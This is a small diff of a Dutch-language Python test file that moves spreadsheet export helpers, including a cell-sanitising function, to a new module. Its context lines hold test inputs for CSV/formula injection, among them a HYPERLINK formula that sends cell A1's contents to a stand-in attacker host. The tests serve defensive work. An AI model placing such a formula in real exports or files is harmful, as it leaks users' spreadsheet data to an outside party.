@@ -9,8 +9,8 @@ import pytest
 from django.core.management import call_command
 from openpyxl import load_workbook
 
-from indicatoren.exporteren import FORMULE_BEGIN, schrijf_csv, schrijf_xlsx, veilige_cel
 from indicatoren.models import Status, Waarde
+from lib.tabellen import FORMULE_BEGIN, schrijf_csv, schrijf_xlsx, veilige_cel
 
 HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik")'
 SOM = "@SUM(A1)"
